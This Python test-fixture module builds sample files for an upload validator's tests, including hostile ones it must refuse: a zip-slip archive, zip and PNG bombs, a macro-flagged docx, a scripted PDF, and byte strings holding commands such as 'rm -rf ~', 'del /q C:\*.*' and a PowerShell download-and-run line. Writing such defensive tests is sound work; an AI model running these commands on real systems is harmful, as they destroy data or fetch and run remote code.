"""Evidence files for the tests, made small and on the spot: one of every accepted kind, and the
hostile ones every refusal is about (programs, scripts, archives leaving their folder, encrypted
and bomb archives, macros, scripted PDFs, picture bombs)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook
from PIL import Image

from tests.hostile import compound_file


def pdf(path: Path, pages: int = 2, extra: bytes = b"", text: str = "") -> Path:
    """A small valid PDF of ``pages`` pages; ``extra`` goes into the catalogue (an /OpenAction…)."""
    kids = " ".join(f"{3 + i} 0 R" for i in range(pages))
    objects = [b"<</Type/Catalog/Pages 2 0 R" + extra + b">>", f"<</Type/Pages/Kids[{kids}]/Count {pages}>>".encode()]
    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"] * pages
    body, offsets = bytearray(b"%PDF-1.4\n%" + text.encode("utf-8", "ignore")[:40] + b"\n"), []
    for n, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += f"{n} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(body)
    body += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    body += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    body += f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{xref}\n%%EOF\n".encode()
    path.write_bytes(bytes(body))
    return path


def compressed_pdf(path: Path, pages: int = 3, script: bool = False) -> Path:
    """A PDF 1.5 whose page tree (and, with ``script``, a JavaScript action) sit in a compressed object stream."""
    inner = f"<</Type/Pages/Kids[]/Count {pages}>>".encode()
    if script:
        inner += b" <</S/JavaScript/JS(app.alert(1))>>"
    stream = zlib.compress(b"2 0 " + inner)
    body = (b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            + b"5 0 obj<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>stream\n" % len(stream)
            + stream + b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    path.write_bytes(body)
    return path


def picture(path: Path, kind: str = "PNG", size: tuple[int, int] = (640, 480), colour: str = "navy") -> Path:
    Image.new("RGB", size, colour).save(path, kind)
    return path


def docx(path: Path, macro: bool = False) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document><w:body><w:p>已印发</w:p></w:body></w:document>")
        if macro:
            z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(100))
    return path


def xlsx(path: Path) -> Path:
    wb = Workbook()
    wb.active.append(["台账", 1])
    wb.save(path)
    return path


def ofd(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("OFD.xml", "<ofd:OFD/>")
        z.writestr("Doc_0/Document.xml", "<ofd:Document/>")
    return path


def ole(path: Path, stream: str, head: bytes = b"", size: int = 8192) -> Path:
    """An OLE compound file with one stream (the layout of .doc, .xls, .wps, .et) starting with ``head``."""
    compound_file(path, stream, size)
    data = bytearray(path.read_bytes())
    start = 3 * 512  # header, FAT, directory: the stream's first sector
    data[start : start + len(head)] = head
    path.write_bytes(bytes(data))
    return path


def encrypted_doc(path: Path) -> Path:
    fib = bytearray(32)
    struct.pack_into("<H", fib, 10, 0x0100)  # FIB fEncrypted
    return ole(path, "WordDocument", bytes(fib))


def encrypted_xls(path: Path) -> Path:
    bof = struct.pack("<HH", 0x0809, 16) + bytes(16)
    return ole(path, "Workbook", bof + struct.pack("<HH", 0x002F, 4) + bytes(4))


def zip_with(path: Path, members: dict[str, bytes], *, encrypted: str | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    if encrypted is not None:  # set the "encrypted" flag of that member, as a password-protected zip has it
        data = bytearray(path.read_bytes())
        encoded = encrypted.encode()
        for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = 0
            while (at := data.find(signature, at)) >= 0:
                name_at = at + (30 if signature == b"PK\x03\x04" else 46)
                if data[name_at : name_at + len(encoded)] == encoded:
                    data[at + flag_at] |= 1
                at += 4
        path.write_bytes(bytes(data))
    return path


def zip_slip(path: Path) -> Path:
    """A zip whose member climbs out of the folder it is unpacked into."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr("../../evil.bat", "@echo off")
    path.write_bytes(buffer.getvalue())
    return path


def zip_bomb(path: Path) -> Path:
    """A .docx with 40 MB of zeros inside that deflates to about 40 KB."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr("word/media/image1.bin", bytes(40 * 2**20))
    return path


def png_bomb(path: Path, width: int = 100_000, height: int = 100_000) -> Path:
    """A PNG whose header claims ``width`` × ``height`` pixels (10 billion): only its header is real."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 100))
                     + chunk(b"IEND", b""))
    return path


def broken_png(path: Path) -> Path:
    """A PNG's signature followed by nothing a decoder can read."""
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(300))
    return path


def exactly(path: Path, size: int) -> Path:
    """A PDF of exactly ``size`` bytes: a valid one padded with a comment after its end, or, too small
    for that, a bare PDF header padded (what the content check looks at)."""
    pdf(path)
    data = path.read_bytes()
    if size < len(data) + 2:
        assert size >= 6
        path.write_bytes(b"%PDF-" + b"x" * (size - 6) + b"\n")
        return path
    path.write_bytes(data + b"%" + b"x" * (size - len(data) - 2) + b"\n")
    return path


HOSTILE: dict[str, tuple[str, bytes | None]] = {
    # name: (what the refusal must say, the bytes; None: made by a function in test_evidence_store)
    "setup.exe": ("可执行程序", b"MZ\x90\x00" + bytes(200)),
    "setup.pdf": ("可执行程序", b"MZ\x90\x00" + bytes(200)),  # a program renamed .pdf
    "tool": ("可执行程序", b"\x7fELF\x02\x01\x01" + bytes(100)),
    "app.jpg": ("可执行程序", b"\xcf\xfa\xed\xfe" + bytes(100)),
    "run.sh": ("脚本", b"#!/bin/sh\nrm -rf ~\n"),
    "clean.bat": ("脚本", b"@echo off\r\ndel /q C:\\*.*\r\n"),
    "clean.txt": ("脚本", b"@echo off\r\ndel /q C:\\*.*\r\n"),  # content, not the name
    "get.ps1": ("脚本", b"Invoke-WebRequest http://x -OutFile a.exe; Start-Process a.exe\n"),
    "hello.vbs": ("脚本", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
    "page.pdf.html": ("脚本", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
    "app.js": ("脚本", b"function go() { document.location = 'http://x'; }\ngo();\n"),
    "drawing.svg": ("脚本", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "notes.txt": ("不是可接受的佐证材料", "会议纪要：已完成".encode()),
    "data.bin": ("不是可接受的佐证材料", bytes(range(256)) * 4),
    "files.rar": ("压缩包", b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    "files.7z": ("压缩包", b"7z\xbc\xaf\x27\x1c" + bytes(100)),
    "empty.pdf": ("空文件", b""),
}


def gbk_zip(path: Path, members: dict[str, bytes]) -> Path:
    """A zip as the built-in 压缩 of Chinese Windows writes it: names in GBK, without the UTF-8 flag
    (zipfile always flags non-ASCII names, so they are written as placeholders and replaced)."""
    encoded = {name: name.encode("gbk") for name in members}
    placeholders = {name: (b"@@%d@" % n).ljust(len(raw), b"@") for n, (name, raw) in enumerate(encoded.items())}
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(placeholders[name].decode(), data)
    data = path.read_bytes()
    for name, raw in encoded.items():
        data = data.replace(placeholders[name], raw)
    path.write_bytes(data)
    return path
